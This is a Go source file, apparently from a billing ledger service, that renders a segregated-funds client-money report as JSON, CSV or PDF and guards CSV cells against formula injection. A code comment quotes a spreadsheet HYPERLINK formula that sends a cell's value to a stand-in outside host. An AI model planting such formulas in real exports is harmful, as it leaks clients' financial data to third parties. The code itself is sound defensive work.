package ports

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"math"
	"strings"
	"time"

	"github.com/go-pdf/fpdf"
	"github.com/shopspring/decimal"
	"google.golang.org/genproto/googleapis/api/httpbody"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/gpubill/gpubill/pkg/apperr"
	"github.com/gpubill/gpubill/pkg/pdfdoc"
	ledgerv1 "github.com/gpubill/gpubill/proto/gen/gpubill/ledger/v1"
	"github.com/gpubill/gpubill/services/ledger/internal/app"
)

// ReportServer is the gRPC ReportService.
type ReportServer struct {
	ledgerv1.UnimplementedReportServiceServer
	Reports *app.Reports
}

// Report formats and their content types.
var reportContentTypes = map[string]string{
	"json": "application/json",
	"csv":  "text/csv; charset=utf-8",
	"pdf":  "application/pdf",
}

// CheckReportFormat normalises a format ("" is json).
func CheckReportFormat(format string) (string, error) {
	if format == "" {
		format = "json"
	}
	if _, ok := reportContentTypes[format]; !ok {
		return "", apperr.Invalid("format", "%q: want json, csv or pdf", format)
	}
	return format, nil
}

// GetSegregatedFundsReport implements ReportService: JSON (proto field
// names), CSV or PDF, returned raw.
func (s *ReportServer) GetSegregatedFundsReport(ctx context.Context, r *ledgerv1.GetSegregatedFundsReportRequest) (*httpbody.HttpBody, error) {
	format, err := CheckReportFormat(r.GetFormat())
	if err != nil {
		return nil, err
	}
	if err := checkAsOf(r.GetAsOf()); err != nil {
		return nil, err
	}
	rep, err := s.Reports.SegregatedFunds(ctx, asOf(r.GetAsOf()), r.GetCurrency())
	if err != nil {
		return nil, err
	}
	b, ct, err := RenderReport(rep, format, nil)
	if err != nil {
		return nil, err
	}
	return &httpbody.HttpBody{ContentType: ct, Data: b}, nil
}

// RenderReport renders a report as json, csv or pdf; progress (if not nil)
// is told how many client lines of how many are written, now and then.
func RenderReport(rep *app.SegregatedFundsReport, format string, progress func(done, total int)) ([]byte, string, error) {
	format, err := CheckReportFormat(format)
	if err != nil {
		return nil, "", err
	}
	if progress == nil {
		progress = func(int, int) {}
	}
	var b []byte
	switch format {
	case "csv":
		b, err = reportCSV(ReportProto(rep), progress)
	case "pdf":
		b, err = reportPDF(ReportProto(rep), progress)
	default:
		b, err = reportJSON(rep, progress)
	}
	if err != nil {
		return nil, "", fmt.Errorf("render the report as %s: %w", format, err)
	}
	return b, reportContentTypes[format], nil
}

// ReportProto renders the report as its proto (the JSON shape of DESIGN §7).
func ReportProto(r *app.SegregatedFundsReport) *ledgerv1.SegregatedFundsReport {
	f := r.Currency.Format
	out := &ledgerv1.SegregatedFundsReport{
		AsOf: timestamppb.New(r.AsOf), Currency: r.Currency.Code,
		ClientMoneyRequirement: f(r.Requirement), TaxWithheldUnremitted: f(r.TaxWithheld),
		ClientMoneyResource: f(r.Resource), Difference: f(r.Difference), LedgerDifference: f(r.LedgerDifference), Verdict: r.Verdict,
		JournalHeadHash: r.JournalHeadHash, JournalHeadPosition: r.JournalHeadPosition,
		BreachesTotal: int32(min(r.BreachesTotal, math.MaxInt32)), //nolint:gosec // bounded just above
		Breaches:      []*ledgerv1.SegregationBreach{}, Lines: []*ledgerv1.SegregatedFundsLine{},
		BankStatements: []*ledgerv1.SegregatedFundsStatement{}, Clients: make([]*ledgerv1.SegregatedFundsClient, 0, len(r.Clients)),
	}
	if r.BankStatementBalance != nil {
		out.BankStatementBalance = f(*r.BankStatementBalance)
	}
	for _, st := range r.Statements {
		out.BankStatements = append(out.BankStatements, &ledgerv1.SegregatedFundsStatement{
			StatementId: st.ID, Account: st.Account, ClosingAt: timestamppb.New(st.ClosingAt), ClosingBalance: f(st.Closing)})
	}
	for _, b := range r.Breaches {
		out.Breaches = append(out.Breaches, &ledgerv1.SegregationBreach{
			TransactionId: b.TransactionID, EffectiveAt: timestamppb.New(b.EffectiveAt), Account: b.Account,
			FromPool: string(b.FromPool), ToPool: string(b.ToPool), Amount: f(b.Amount), Currency: b.Currency, Reason: b.Reason,
		})
	}
	for _, l := range r.Lines {
		out.Lines = append(out.Lines, &ledgerv1.SegregatedFundsLine{Section: l.Section, Account: l.Account, Description: l.Description, Amount: f(l.Amount)})
	}
	for _, c := range r.Clients {
		cells := ClientCells(c, f)
		out.Clients = append(out.Clients, &ledgerv1.SegregatedFundsClient{Kind: c.Kind, ClientId: c.ID, Wallet: cells.Wallet,
			Pending: cells.Pending, Available: cells.Available, InTransit: cells.InTransit, Total: cells.Total})
	}
	return out
}

// ClientCellTexts are a client line's amounts as every form of the report
// prints them: a renter's wallet, or a provider's pending, available and
// in transit (the other kind's cells empty), and the total.
type ClientCellTexts struct{ Wallet, Pending, Available, InTransit, Total string }

// ClientCells formats a client line's amounts with f (the currency's format).
func ClientCells(c app.ClientLine, f func(decimal.Decimal) string) ClientCellTexts {
	out := ClientCellTexts{Total: f(c.Total())}
	if c.Kind == app.ClientRenter {
		out.Wallet = f(c.Wallet)
	} else {
		out.Pending, out.Available, out.InTransit = f(c.Pending), f(c.Available), f(c.InTransit)
	}
	return out
}

// progressEvery is how many client lines are rendered between progress calls.
const progressEvery = 1000

// csvFormulaStarts are the first characters that make a spreadsheet read a
// cell as a formula (OWASP "CSV injection"): = + - @, and tab and carriage
// return, which some strip before looking.
const csvFormulaStarts = "=+-@\t\r"

// csvText is a text cell as the CSV writes it: one starting with a formula
// character gets a leading ' so a spreadsheet shows it as text. A statement
// id (finance's, or a camt.053's Stmt/Id) may start with any of them, and
// =HYPERLINK("https://x.example/?"&G2,…) in the auditors' report sent a
// figure of it elsewhere on a click. Amount cells are never passed through
// it: "-8.75" is a number.
func csvText(s string) string {
	if s != "" && strings.ContainsRune(csvFormulaStarts, rune(s[0])) {
		return "'" + s
	}
	return s
}

// reportCSV: a header, one line per client (amounts as decimal text with
// the currency's minor units), then the totals, breaches and the journal
// head as rows of their own kind. Text cells go through csvText; the
// amount columns (wallet to total) hold amounts but in the verdict and
// journal head rows, whose text is the ledger's own (a verdict, a hash).
func reportCSV(r *ledgerv1.SegregatedFundsReport, progress func(int, int)) ([]byte, error) {
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	asOf := csvText(r.GetAsOf().AsTime().Format(time.RFC3339Nano))
	row := func(kind, id, wallet, pending, available, inTransit, total, currency string) {
		w.Write([]string{csvText(kind), csvText(id), wallet, pending, available, inTransit, total, csvText(currency), asOf}) // buffered: errors surface at Flush
	}
	w.Write([]string{"kind", "client_id", "wallet", "pending", "available", "in_transit", "total", "currency", "as_of"})
	for i, c := range r.Clients {
		row(c.Kind, c.ClientId, c.Wallet, c.Pending, c.Available, c.InTransit, c.Total, r.Currency)
		if (i+1)%progressEvery == 0 {
			progress(i+1, len(r.Clients))
		}
	}
	progress(len(r.Clients), len(r.Clients))
	for _, l := range r.Lines {
		row("total:"+l.Section, l.Account, "", "", "", "", l.Amount, r.Currency)
	}
	row("summary", "client_money_requirement", "", "", "", "", r.ClientMoneyRequirement, r.Currency)
	row("summary", "tax_withheld_unremitted", "", "", "", "", r.TaxWithheldUnremitted, r.Currency)
	row("summary", "client_money_resource", "", "", "", "", r.ClientMoneyResource, r.Currency)
	row("summary", "bank_statement_balance", "", "", "", "", r.BankStatementBalance, r.Currency)
	row("summary", "difference", "", "", "", "", r.Difference, r.Currency)
	row("summary", "ledger_difference", "", "", "", "", r.LedgerDifference, r.Currency)
	row("summary", "verdict", "", "", "", "", csvText(r.Verdict), "")
	for _, st := range r.BankStatements {
		row("bank_statement", st.StatementId, "", "", "", "", st.ClosingBalance, r.Currency)
	}
	row("summary", "breaches_total", "", "", "", "", fmt.Sprint(r.BreachesTotal), "")
	for _, b := range r.Breaches {
		row("breach", b.TransactionId, "", "", "", "", b.Amount, b.Currency)
	}
	row("journal_head", fmt.Sprint(r.JournalHeadPosition), "", "", "", "", csvText(r.JournalHeadHash), "")
	w.Flush()
	return buf.Bytes(), w.Error()
}

// reportPDF: page 1 is the summary an auditor signs (figures, verdict,
// statements, breaches, the journal head); the client lines follow.
func reportPDF(r *ledgerv1.SegregatedFundsReport, progress func(int, int)) ([]byte, error) {
	pdf := fpdf.New("P", "mm", "A4", "")
	asOf := r.GetAsOf().AsTime().Format(time.RFC3339)
	pdf.SetTitle("Segregated funds report "+r.Currency+" as of "+asOf, false)
	pdf.SetCreator("gpubill", false)
	pdf.SetAutoPageBreak(false, 12)
	pdf.AliasNbPages("")
	pdf.SetFooterFunc(func() {
		pdf.SetY(-10)
		pdf.SetFont("Helvetica", "", 7)
		pdf.CellFormat(0, 4, fmt.Sprintf("gpubill segregated funds %s as of %s - page %d of {nb}", r.Currency,
			asOf, pdf.PageNo()), "", 0, "C", false, 0, "")
	})
	pdf.AddPage()
	pdfSummary(pdf, r)
	pdfTotals(pdf, r)
	// The rest of page 1: statements, then breaches, as many as fit.
	pdfStatements(pdf, r)
	pdfBreaches(pdf, r)
	pdfClients(pdf, r, progress)
	var buf bytes.Buffer
	if err := pdf.Output(&buf); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// pdfSummaryBottom is where page 1's lists stop (mm from the top).
const pdfSummaryBottom = 270.0

// pdfSummary writes the title and the figures an auditor signs.
func pdfSummary(pdf *fpdf.Fpdf, r *ledgerv1.SegregatedFundsReport) {
	pdf.SetFont("Helvetica", "B", 15)
	pdf.CellFormat(0, 9, "Segregated funds (client money) report", "", 1, "L", false, 0, "")
	pdf.SetFont("Helvetica", "", 10)
	kv := func(k, v string, bold bool) {
		pdf.SetFont("Helvetica", "", 10)
		pdf.CellFormat(78, 6, k, "", 0, "L", false, 0, "")
		if bold {
			pdf.SetFont("Helvetica", "B", 10)
		}
		pdf.CellFormat(0, 6, v, "", 1, "L", false, 0, "")
	}
	bank := r.BankStatementBalance
	if bank == "" {
		bank = "no statement imported"
	}
	kv("As of", r.GetAsOf().AsTime().Format(time.RFC3339Nano), false)
	kv("Currency", r.Currency, false)
	kv("Client money requirement", r.ClientMoneyRequirement, false)
	kv("Tax withheld not yet remitted", r.TaxWithheldUnremitted, false)
	kv("Client money resource (ledger bank:client)", r.ClientMoneyResource, false)
	kv("Bank statement balance", bank, false)
	kv("Difference", r.Difference, true)
	kv("Ledger difference (bank:client)", r.LedgerDifference, false)
	kv("Verdict", r.Verdict, true)
	kv("Segregation breaches", breachesCount(r), false)
	kv("Journal head position", fmt.Sprint(r.JournalHeadPosition), false)
	pdf.SetFont("Helvetica", "", 10)
	pdf.CellFormat(78, 6, "Journal head hash", "", 0, "L", false, 0, "")
	pdf.SetFont("Courier", "", 8)
	pdf.CellFormat(0, 6, r.JournalHeadHash, "", 1, "L", false, 0, "")
}

// pdfTotals writes the totals per section.
func pdfTotals(pdf *fpdf.Fpdf, r *ledgerv1.SegregatedFundsReport) {
	pdf.Ln(3)
	pdf.SetFont("Helvetica", "B", 10)
	pdf.CellFormat(0, 6, "Totals per section", "", 1, "L", false, 0, "")
	pdf.SetFont("Helvetica", "", 8)
	for _, l := range r.Lines {
		pdf.CellFormat(22, 5, l.Section, "", 0, "L", false, 0, "")
		pdf.CellFormat(48, 5, clip(l.Account, 34), "", 0, "L", false, 0, "")
		pdf.CellFormat(85, 5, clip(l.Description, 64), "", 0, "L", false, 0, "")
		pdfdoc.FitCell(pdf, 0, 5, l.Amount, "", 1, "R")
	}
}

// pdfStatements writes the bank statements counted, as many as fit on page 1.
func pdfStatements(pdf *fpdf.Fpdf, r *ledgerv1.SegregatedFundsReport) {
	if len(r.BankStatements) == 0 {
		return
	}
	pdf.Ln(2)
	pdf.SetFont("Helvetica", "B", 10)
	pdf.CellFormat(0, 6, "Bank statements counted", "", 1, "L", false, 0, "")
	pdf.SetFont("Helvetica", "", 8)
	tr := pdf.UnicodeTranslatorFromDescriptor("") // ids are the bank's: cp1252 for the core font
	for i, st := range r.BankStatements {
		if pdf.GetY() > pdfSummaryBottom-20 {
			pdf.CellFormat(0, 5, fmt.Sprintf("... and %d more (see the JSON or CSV form)", len(r.BankStatements)-i), "", 1, "L", false, 0, "")
			return
		}
		pdf.CellFormat(55, 5, tr(clip(st.StatementId, 40)), "", 0, "L", false, 0, "")
		pdf.CellFormat(55, 5, tr(clip(st.Account, 40)), "", 0, "L", false, 0, "")
		pdf.CellFormat(45, 5, st.GetClosingAt().AsTime().Format(time.RFC3339), "", 0, "L", false, 0, "")
		pdf.CellFormat(0, 5, st.ClosingBalance, "", 1, "R", false, 0, "")
	}
}

// breachesCount is how many breaches there are, and how many the report
// lists when it lists fewer.
func breachesCount(r *ledgerv1.SegregatedFundsReport) string {
	if int(r.BreachesTotal) > len(r.Breaches) {
		return fmt.Sprintf("%d (the first %d listed)", r.BreachesTotal, len(r.Breaches))
	}
	return fmt.Sprint(r.BreachesTotal)
}

// pdfBreaches writes the segregation breaches, as many as fit on page 1.
func pdfBreaches(pdf *fpdf.Fpdf, r *ledgerv1.SegregatedFundsReport) {
	if len(r.Breaches) == 0 {
		return
	}
	pdf.Ln(2)
	pdf.SetFont("Helvetica", "B", 10)
	pdf.CellFormat(0, 6, "Segregation breaches (transaction ids)", "", 1, "L", false, 0, "")
	pdf.SetFont("Helvetica", "", 8)
	for i, b := range r.Breaches {
		if pdf.GetY() > pdfSummaryBottom {
			pdf.CellFormat(0, 5, fmt.Sprintf("... and %d more (see the JSON or CSV form)", len(r.Breaches)-i), "", 1, "L", false, 0, "")
			return
		}
		pdf.CellFormat(70, 5, b.TransactionId, "", 0, "L", false, 0, "")
		pdf.CellFormat(55, 5, clip(b.Account, 40), "", 0, "L", false, 0, "")
		pdf.CellFormat(30, 5, b.FromPool+" -> "+b.ToPool, "", 0, "L", false, 0, "")
		pdf.CellFormat(0, 5, b.Amount, "", 1, "R", false, 0, "")
	}
}

// The client lines' columns.
var (
	pdfClientWidths = []float64{18, 52, 24, 24, 24, 24, 24}
	pdfClientHeader = []string{"kind", "client", "wallet", "pending", "available", "in transit", "total"}
)

// pdfClients writes the client lines from page 2 on, the column header on
// every page.
func pdfClients(pdf *fpdf.Fpdf, r *ledgerv1.SegregatedFundsReport, progress func(int, int)) {
	pdf.AddPage()
	pdf.SetFont("Helvetica", "B", 11)
	pdf.CellFormat(0, 7, fmt.Sprintf("Client lines (%d)", len(r.Clients)), "", 1, "L", false, 0, "")
	pdf.SetY(pdf.GetY() - 5)
	pdf.SetFont("Helvetica", "", 8)
	_, pageH := pdf.GetPageSize()
	for i, c := range r.Clients {
		if i == 0 {
			pdf.Ln(5)
			pdfClientRow(pdf, pdfClientHeader, true)
		} else if pdf.GetY() > pageH-18 {
			pdf.AddPage()
			pdfClientRow(pdf, pdfClientHeader, true)
		}
		pdfClientRow(pdf, []string{c.Kind, clip(c.ClientId, 36), c.Wallet, c.Pending, c.Available, c.InTransit, c.Total}, false)
		if (i+1)%progressEvery == 0 {
			progress(i+1, len(r.Clients))
		}
	}
	progress(len(r.Clients), len(r.Clients))
}

// pdfClientRow writes one row of the client table, text columns left,
// amounts right. The header is bold, underlined and 5 mm high; the rows
// after it are in the regular font it sets back.
func pdfClientRow(pdf *fpdf.Fpdf, cells []string, header bool) {
	height, border := 4.2, ""
	if header {
		height, border = 5, "B"
		pdf.SetFont("Helvetica", "B", 8)
	}
	for j, v := range cells {
		align := "R"
		if j < 2 {
			align = "L"
		}
		pdfdoc.FitCell(pdf, pdfClientWidths[j], height, v, border, 0, align)
	}
	pdf.Ln(-1)
	if header {
		pdf.SetFont("Helvetica", "", 8)
	}
}

// clip shortens s to n runes for a fixed-width cell.
func clip(s string, n int) string {
	rs := []rune(s)
	if len(rs) <= n {
		return s
	}
	return string(rs[:n-1]) + "~"
}
